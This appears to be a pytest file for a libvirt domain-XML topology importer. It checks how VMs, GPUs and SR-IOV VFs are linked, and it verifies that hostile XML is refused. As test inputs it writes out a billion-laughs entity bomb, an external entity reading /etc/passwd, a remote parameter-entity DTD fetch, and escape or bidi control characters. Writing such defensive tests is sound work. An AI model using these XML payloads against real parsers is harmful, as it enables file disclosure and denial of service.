"""virsh dumpxml: libvirt's own hostdev test domain, VFs told from GPUs, hostile XML (entities above all)."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from analytics.errors import TopologyError
from analytics.topology.importers import libvirt
from analytics.topology.model import Entity, Kind, Link

FIXTURES = Path(__file__).parents[2] / "fixtures" / "topology"
DOMAIN = (FIXTURES / "libvirt-hostdev-pci-address.xml").read_text()
VM = Entity(Kind.NODE, "QEMUGuest2")
VF_INTERFACE = """    <interface type='hostdev' managed='yes'>
      <mac address='52:54:00:00:12:53'/>
      <source>
        <address type='pci' domain='0x0000' bus='0x42' slot='0x02' function='0x5'/>
      </source>
    </interface>
    <memballoon"""


def test_the_domain_sits_on_its_host_and_under_the_device_it_holds() -> None:
    assert libvirt.read_domain(DOMAIN, "x.xml") == libvirt.Domain(
        "QEMUGuest2", "c7a5fdbd-edaf-9466-926a-d65c16db1809", network=(), other=("0000:06:12.5",)
    )
    by_uuid = Entity(Kind.DOMAIN, "c7a5fdbd-edaf-9466-926a-d65c16db1809")
    assert libvirt.parse(DOMAIN, "hv-01.xml") == [
        Link(VM, Entity(Kind.HOST, "hv-01")),
        Link(VM, Entity(Kind.GPU, "hv-01/0000:06:12.5")),
        Link(by_uuid, Entity(Kind.HOST, "hv-01")),  # the same again by UUID, what a guest's report joins
        Link(by_uuid, Entity(Kind.GPU, "hv-01/0000:06:12.5")),
    ]
    without_uuid = re.sub(r"<uuid>.*</uuid>", "", DOMAIN)
    assert {link.child for link in libvirt.parse(without_uuid, "hv-01.xml")} == {VM}


def test_a_hostdev_the_host_knows_as_a_vf_and_a_hostdev_interface_are_vfs() -> None:
    assert Link(VM, Entity(Kind.VF, "hv-01/0000:06:12.5")) in libvirt.parse(
        DOMAIN, "dump", host="hv-01", vfs={"0000:06:12.5"}
    )
    with_interface = DOMAIN.replace("    <memballoon", VF_INTERFACE)
    assert Link(VM, Entity(Kind.VF, "hv-01/0000:42:02.5")) in libvirt.parse(with_interface, "hv-01.xml")


def test_a_hostdev_interface_names_its_vf_by_the_mac_libvirt_sets_on_it() -> None:
    """libvirt's net-hostdev test domain: MAC 00:11:22:33:44:55 on VF 2424:21:1c.6 (a PCI domain above 0)."""
    text = (FIXTURES / "libvirt-net-hostdev-multidomain.xml").read_text()
    assert libvirt.read_domain(text, "x.xml").macs == (("mac:00:11:22:33:44:55", "2424:21:1c.6"),)
    host_vf = Entity(Kind.VF, "hv-01/2424:21:1c.6")
    assert Link(Entity(Kind.VF, "mac:00:11:22:33:44:55"), host_vf) in libvirt.parse(text, "hv-01.xml")
    assert Link(Entity(Kind.NODE, "QEMUGuest1"), host_vf) in libvirt.parse(text, "hv-01.xml")


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE domain [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<domain><name>&lol3;</name></domain>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE domain [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<domain><name>&secret;</name></domain>"""
PARAMETER_ENTITY = """<!DOCTYPE domain [<!ENTITY % remote SYSTEM "http://example.invalid/x.dtd"> %remote;]>
<domain><name>a</name></domain>"""


@pytest.mark.parametrize(
    ("text", "where", "fault"),
    [
        (BILLION_LAUGHS, "line 2", "DOCTYPE"),
        (EXTERNAL_ENTITY, "line 2", "DOCTYPE"),
        (PARAMETER_ENTITY, "line 1", "DOCTYPE"),
        ("<domain><name>a&undefined;</name></domain>", "line 1", "undefined entity"),
        (DOMAIN[: DOMAIN.index("<hostdev")], "line ", "not XML"),
        ("<capabilities/>", "/capabilities", "not <domain>"),
        ("<domain><uuid>c7a5fdbd</uuid></domain>", "/domain/name", "empty"),
        (DOMAIN.replace("d65c16db1809", "d65c16db18zz"), "/domain/uuid", "not a UUID"),
        (DOMAIN.replace("<name>QEMUGuest2", "<name>QEMU&#x1b;[2J"), "line 2", "not XML"),
        (DOMAIN.replace("<name>QEMUGuest2", "<name>QEMU&#x202e;2"), "/domain/name", "control"),
        (
            DOMAIN.replace("slot='0x12'", "slot='0x20'"),
            "/domain/devices/hostdev[1]/source/address",
            "out of range",
        ),
        (DOMAIN.replace("bus='0x06' ", ""), "/domain/devices/hostdev[1]/source/address", "no bus"),
        (DOMAIN.replace("function='0x5'", "function='five'"), "/domain/devices/hostdev[1]", "not a number"),
        (
            re.sub(r"<source>\s*<address[^>]*/>\s*</source>", "", DOMAIN),
            "/domain/devices/hostdev[1]",
            "without its source",
        ),
    ],
)
def test_hostile_xml_is_refused_naming_the_element_or_line(text: str, where: str, fault: str) -> None:
    with pytest.raises(TopologyError, match=fault) as caught:
        libvirt.parse(text, "vm.xml", host="hv-01")
    assert caught.value.where.startswith(where)
